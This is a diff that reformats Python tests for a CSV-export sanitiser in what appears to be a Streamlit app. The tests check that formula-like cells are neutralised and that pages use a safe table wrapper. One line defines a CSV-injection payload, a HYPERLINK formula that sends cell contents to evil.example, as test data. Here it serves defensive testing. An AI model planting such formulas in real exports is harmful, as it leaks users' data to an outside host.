@@ -20,22 +20,33 @@ PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
 
 def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_the_rest_kept():
     rows = [{"Name": PAYLOAD, "Organisation": "@SUM(1)", "Votes": -5, "Active": True, "Note": "Article 26"}]
-    assert csv_safe(rows) == [{"Name": "'" + PAYLOAD, "Organisation": "'@SUM(1)", "Votes": -5, "Active": True,
-                               "Note": "Article 26"}]
+    assert csv_safe(rows) == [
+        {"Name": "'" + PAYLOAD, "Organisation": "'@SUM(1)", "Votes": -5, "Active": True, "Note": "Article 26"}
+    ]
     assert csv_safe({"A": ["+1", "ok"]}) == {"A": ["'+1", "ok"]}
     assert csv_safe([["\t=1", 2]]) == [["'\t=1", 2]]
 
 
 def _dataframe_calls(path: Path) -> list[int]:
     tree = ast.parse(path.read_text(encoding="utf-8"))
-    return [node.lineno for node in ast.walk(tree)
-            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "dataframe"
-            and isinstance(node.func.value, ast.Name) and node.func.value.id == "st"]
+    return [
+        node.lineno
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call)
+        and isinstance(node.func, ast.Attribute)
+        and node.func.attr == "dataframe"
+        and isinstance(node.func.value, ast.Name)
+        and node.func.value.id == "st"
+    ]
 
 
 def test_no_page_calls_st_dataframe_directly():
-    direct = [f"{path.relative_to(ROOT)}:{line}" for path in sorted((ROOT / "recdraft" / "ui").rglob("*.py"))
-              if path.name != "tables.py" for line in _dataframe_calls(path)]
+    direct = [
+        f"{path.relative_to(ROOT)}:{line}"
+        for path in sorted((ROOT / "recdraft" / "ui").rglob("*.py"))
+        if path.name != "tables.py"
+        for line in _dataframe_calls(path)
+    ]
     direct += [f"streamlit_app.py:{line}" for line in _dataframe_calls(ROOT / "streamlit_app.py")]
     assert direct == [], "use recdraft.ui.tables.dataframe, which makes the CSV download safe"
 
